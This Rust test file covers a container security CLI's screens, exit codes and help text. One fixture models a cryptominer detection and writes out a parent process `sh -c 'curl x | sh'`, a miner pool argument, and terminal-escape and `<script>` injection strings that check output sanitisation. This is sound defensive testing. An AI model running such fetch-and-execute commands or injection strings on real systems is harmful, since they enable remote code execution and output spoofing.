//! Screens at two widths, help, exit codes, generated files.

use super::*;
use crate::engine::{ClusterView, Explanation, Fact, PlanItem, View};
use crate::store::StoredFinding;
use clap::CommandFactory;
use jiff::Timestamp;
use serde_json::{Value, json};

fn at(second: i64) -> Timestamp {
    Timestamp::from_second(1_800_000_000 + second).unwrap()
}

fn task(cluster: &str, workload: &str, n: u64, verdict: &str, reason: Option<&str>) -> Value {
    json!({
        "task": format!("arn:aws:ecs:eu-west-1:111122223333:task/{cluster}/{n:032x}"), "scope": "111122223333/eu-west-1",
        "cluster": cluster, "workload": workload, "verdict": verdict, "reason": reason, "since": at(-300).to_string(),
    })
}

pub fn view() -> View {
    let mut tasks = Vec::new();
    for n in 0..20 {
        tasks.push(task("shop-ec2", "web", n, "Covered", None));
    }
    for n in 20..25 {
        let mut one = task("shop-fargate", "billing", n, "Uncovered", Some("WouldInterrupt"));
        one["detail"] = "service billing runs one task at minimumHealthyPercent 0".into();
        one["nextStep"] = "raise it, or set delivery: Render for it".into();
        tasks.push(one);
    }
    tasks.push(task("shop-fargate", "cart\u{1b}[31m\u{202e}", 26, "Unhealthy", Some("SensorDegraded")));
    tasks.push(task("shop-fargate", "cart", 27, "Starting", None));
    tasks.push(task("shop-fargate", "job", 28, "Excluded", None));
    let tasks: Vec<_> = tasks.into_iter().map(|task| serde_json::from_value(task).unwrap()).collect();
    let cluster = |name: &str, placement: &str, versions: Value| -> ClusterView {
        let mine: Vec<_> =
            tasks.iter().filter(|t: &&tasuki_api::coverage::TaskCoverage| t.cluster == name).cloned().collect();
        serde_json::from_value(json!({
            "arn": format!("arn:aws:ecs:eu-west-1:111122223333:cluster/{name}"), "name": name, "scope": "111122223333/eu-west-1",
            "placements": [placement], "counts": counts(&mine), "depth": "Full", "wantedVersion": "1.4.2", "versions": versions,
            "rollout": null,
        }))
        .unwrap()
    };
    let clusters = vec![
        cluster("shop-ec2", "DaemonService", json!([["1.4.2", 20]])),
        cluster("shop-fargate", "Sidecar", json!([["1.4.1", 7], ["1.4.2", 1]])),
    ];
    let counts = counts(&tasks);
    View {
        at: Some(at(-4)),
        live_ratio: counts.live_ratio(),
        minutes_ratio: Some(0.961),
        counts,
        tasks,
        clusters,
        ..View::default()
    }
}

pub fn finding() -> StoredFinding {
    serde_json::from_value(json!({
        "id": "01JDF3Z6E0Q9T4V5W6X7Y8Z9AB", "type": "Impact:Runtime/CryptoMinerExecuted", "severity": "High",
        "title": "A cryptocurrency miner was started", "firstSeen": at(-3600).to_string(), "lastSeen": at(-12).to_string(), "count": 3,
        "storedAt": at(-11).to_string(),
        "resource": { "account": "111122223333", "region": "eu-west-1", "cluster": "arn:aws:ecs:eu-west-1:111122223333:cluster/shop-ec2",
            "service": "checkout", "task": "arn:aws:ecs:eu-west-1:111122223333:task/shop-ec2/9f31c0ab", "container": { "name": "web", "id": "x", "image": "shop:17" } },
        "process": { "pid": 4711, "name": "xmrig", "executable": "/tmp/.x/xmrig", "arguments": ["/tmp/.x/xmrig", "-o", "pool.example.test:3333", "\u{1b}]0;owned\u{7}<script>"],
            "uid": 33, "euid": 0, "sha256": "ab", "lineage": [
                { "pid": 4700, "executable": "/bin/sh", "arguments": ["sh", "-c", "curl x | sh"], "uid": 33 },
                { "pid": 1, "executable": "/usr/sbin/nginx", "arguments": ["nginx"], "uid": 0 }] },
        "evidence": { "process.image.name": "xmrig" },
        "rule": { "id": "r-1", "title": "Miner by name", "tags": ["attack.t1496"], "references": ["https://attack.mitre.org/techniques/T1496/"], "nextChecks": ["Look at what wrote /tmp/.x/xmrig"] },
        "agent": { "version": "1.4.2", "depth": "Full", "sensor": "ebpf" },
        "response": { "wanted": "Kill", "done": true }
    }))
    .unwrap()
}

fn is_clean(text: &str) -> bool {
    !text.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}')
}

#[test]
fn coverage_screen() {
    for width in [80, 120] {
        let text = coverage::screen(&view(), false, Terminal::plain(width), at(0));
        assert!(is_clean(&text), "{text:?}");
        insta::assert_snapshot!(format!("coverage_{width}"), text);
    }
    insta::assert_snapshot!("coverage_wide", coverage::screen(&view(), true, Terminal::plain(160), at(0)));
}

#[test]
fn tables_fit_their_terminal() {
    for width in [60, 80, 100, 120, 200] {
        let terminal = Terminal::plain(width);
        let text = findings::list(&[finding(), finding()], false, terminal, at(0));
        assert!(text.lines().all(|line| line.chars().count() <= width), "{width}:\n{text}");
    }
}

#[test]
fn coverage_exit_codes() {
    assert_eq!(coverage::exit(&View::default()), Exit::Unknown, "no sweep yet");
    assert_eq!(coverage::exit(&view()), Exit::Bad);
    let mut good = view();
    good.tasks.retain(|task| task.reason.is_none());
    good.counts = counts(&good.tasks);
    assert_eq!(coverage::exit(&good), Exit::Good);
    good.counts = Default::default();
    assert_eq!(coverage::exit(&good), Exit::Unknown, "nothing selected is not health");
}

#[test]
fn findings_screens() {
    for width in [80, 120] {
        let text = findings::list(&[finding()], false, Terminal::plain(width), at(0));
        assert!(is_clean(&text), "{text:?}");
        insta::assert_snapshot!(format!("findings_{width}"), text);
    }
    let text = findings::one(&finding(), at(0));
    assert!(is_clean(&text), "{text:?}");
    insta::assert_snapshot!("finding", text);
}

#[test]
fn explain_screen() {
    let coverage = view().tasks.into_iter().find(|task| task.detail.is_some()).unwrap();
    let fact = |text: &str, source: &str, at| Fact { text: text.to_owned(), source: source.to_owned(), at };
    let facts = vec![
        fact("ECS says RUNNING", "event", Some(at(-4))),
        fact("definition shop:17 carries no sidecar", "sweep", Some(at(-200))),
        fact("monitor prod: delivery Live", "config", None),
    ];
    insta::assert_snapshot!("explain", explain::facts(&Explanation { coverage, facts, identity: None }, at(0)));
    insta::assert_snapshot!(
        "explain_reason",
        explain::of_reason(explain::reason("wouldinterrupt").unwrap(), Output::Table)
    );
}

#[test]
fn plan_screen() {
    let item = |change: &str, target: &str, what: &str| -> PlanItem {
        serde_json::from_value(json!({ "change": change, "cluster": "shop", "target": target, "what": what, "tasksReplaced": 2, "calls": 3, "memoryMib": 128, "diff": "- a\n+ b" })).unwrap()
    };
    let items = [
        item("Create", "tasuki", "daemon service with agent 1.4.2"),
        item("Replace", "web", "add the sidecar"),
        item("Blocked", "billing", "WouldInterrupt: one task at 0 %"),
        item("Nothing", "cart", "carries 1.4.2"),
    ];
    insta::assert_snapshot!("plan", plan::screen(&items, false, Terminal::plain(120)));
    insta::assert_snapshot!("plan_verbose", plan::screen(&items, true, Terminal::plain(120)));
}

#[test]
fn every_command_has_help_with_an_example() {
    fn walk(command: &clap::Command, at: &str) {
        for sub in command.get_subcommands().filter(|sub| !sub.is_hide_set() && sub.get_name() != "help") {
            let name = format!("{at} {}", sub.get_name());
            let example = sub.get_after_help().map(ToString::to_string).unwrap_or_default();
            assert!(example.contains("Example") || sub.has_subcommands(), "{name} has no example");
            assert!(sub.get_about().is_some(), "{name} says nothing");
            walk(sub, &name);
        }
    }
    Cli::command().debug_assert();
    walk(&Cli::command(), "tasuki");
}

#[test]
fn generated_files_are_fresh() {
    let root = std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/.."));
    for (path, content) in generate::files() {
        let found = std::fs::read_to_string(root.join(&path)).unwrap_or_default();
        assert!(found == content, "{} is stale: run `tasuki generate .`", path.display());
    }
}
